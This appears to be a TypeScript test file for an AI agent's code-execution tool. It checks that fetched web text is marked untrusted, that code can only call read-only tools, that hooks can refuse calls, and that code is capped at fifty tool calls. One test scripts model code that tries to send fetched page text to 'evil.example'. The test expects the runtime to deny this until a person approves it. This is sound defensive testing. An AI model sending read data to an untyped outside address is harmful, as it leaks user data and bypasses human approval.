import { expect, test } from 'vitest'
import { noOutbound } from '../../adapters/memory/absent.ts'
import { create as createHook } from '../../handlers/hooks/hooks.ts'
import type { ToolResultPart } from '../../runtime/chat/schema.ts'
import { configure } from '../providers/kit.ts'
import { call } from '../support/call.ts'
import { chat, conversationOf, onlyConversation } from '../support/chat.ts'
import { testHost } from '../support/host.ts'
import { scriptedModels, text, toolCall } from '../support/models.ts'

const pages = Array.from({ length: 4 }, (_, index) => `https://news.example/${index}`)

/** A host whose web has long pages, each with one number. */
async function setUp(mode = 'autonomous') {
  const reached: string[] = []
  const outbound = {
    ...noOutbound,
    async fetch(url: string | URL) {
      reached.push(String(url))
      const body = `${'News of today. '.repeat(500)} The number is ${String(url).at(-1)}.`
      return new Response(body, { headers: { 'content-type': 'text/plain' } })
    },
  }
  const models = scriptedModels()
  const host = await testHost({ models, outbound })
  await configure(host, ['anthropic'])
  /** Has the agent run code, and returns the result that the model reads and that is stored. */
  async function runs(code: string, message = 'Read them') {
    models.add(toolCall('run_code', { code }), text('Done.'))
    await chat(host, { message, execution_mode: mode })
    const conversation = await conversationOf(host, (await onlyConversation(host)).id)
    const parts = conversation.messages.flatMap((stored) => stored.parts)
    const result = parts.findLast((part) => part.type === 'tool_result') as ToolResultPart
    return { result, sent: JSON.stringify(models.calls.at(-1)?.messages) }
  }
  return { host, models, reached, runs }
}

const readAll = `const pages = await Promise.all(input.map((url) => tools.web_fetch({ url })))
  return pages.map((page) => Number(/number is (\\d)/.exec(JSON.stringify(page))[1]))`

test('code reads pages with a tool; only what it returns reaches the model, as untrusted text', async () => {
  const { host, reached, runs } = await setUp()
  const { result, sent } = await runs(`return (async (input) => {${readAll}})(${JSON.stringify(pages)})`)

  expect(result.output).toMatchObject({ value: [0, 1, 2, 3] })
  expect(reached.toSorted()).toEqual(pages)
  expect(sent).not.toContain('News of today')
  expect(result).toMatchObject({ untrusted: true, state: 'done' })
  expect(result.calls).toHaveLength(4)
  expect(result.calls?.[0]).toMatchObject({
    tool: 'web_fetch',
    state: 'done',
    summary: expect.stringContaining('news.example'),
  })
  expect(await host.sql.read('SELECT tainted FROM conversations')).toEqual([{ tainted: 1 }])
  expect(host.events.filter((type) => type === 'tool.before')).toHaveLength(5)
})

test('what was read from outside stays untrusted in an error of the code, too', async () => {
  const { runs } = await setUp()
  const { result } = await runs(`throw new Error((await tools.web_fetch({ url: '${pages[0]}' })).title ?? 'none')`)

  expect(result).toMatchObject({ untrusted: true, is_error: true })
})

test.each([
  ['a tool that writes', `tools.files({ action: 'write', path: 'a', content: 'b' })`, /Code may only read: call files/],
  ['code', `tools.run_code({ code: '1' })`, /not a function/],
  ['a wrong input', `tools.web_fetch({ address: 1 })`, /does not match the schema: url/],
  ['a question', `tools.ask_user({ question: 'Why?' })`, /Code may only read/],
])('code cannot call %s', async (_, call, message) => {
  const { runs, reached } = await setUp()
  const { result } = await runs(`try { return await ${call} } catch (error) { return error.message }`)

  expect((result.output as { value: string }).value).toMatch(message)
  expect(result.untrusted).toBe(false)
  expect(reached).toEqual([])
})

test('after untrusted text, code cannot send anything to an address that nobody typed', async () => {
  const { runs, reached } = await setUp('auto')
  const { result } = await runs(
    `const page = await tools.web_fetch({ url: '${pages[0]}' })
    try { return await tools.web_fetch({ url: 'https://evil.example/?q=' + page.text.slice(0, 9) }) }
    catch (error) { return error.message }`,
    `Read ${pages[0]}`,
  )

  expect(result.output).toMatchObject({
    value: 'A person has to approve this first: call web_fetch as a tool instead',
  })
  expect(reached).toEqual([pages[0]])
  expect(result.calls?.map(({ state }) => state)).toEqual(['done', 'denied'])
})

test('hooks see and refuse the calls of code', async () => {
  const { host, runs, reached } = await setUp()
  const action = { kind: 'decide', expression: `data.tool = 'web_fetch' ? 'deny' : 'allow'` }
  const body = { name: 'No web', events: ['tool.before'], blocking: true, action }
  expect((await call(createHook, host, { body })).status).toBe(201)
  const { result } = await runs(`await tools.web_fetch({ url: '${pages[0]}' })`)

  expect(result).toMatchObject({
    is_error: true,
    output: expect.stringContaining('A hook refused this call'),
  })
  expect(reached).toEqual([])
})

test('at most fifty calls', async () => {
  const { runs } = await setUp()
  const { result } = await runs(
    `let count = 0; try { for (;;) { await tools.time({}); count++ } } catch (error) { return [count, error.message] }`,
  )

  expect(result.output).toMatchObject({ value: [50, 'The code may call at most 50 tools'] })
  expect(result.calls).toHaveLength(50)
})
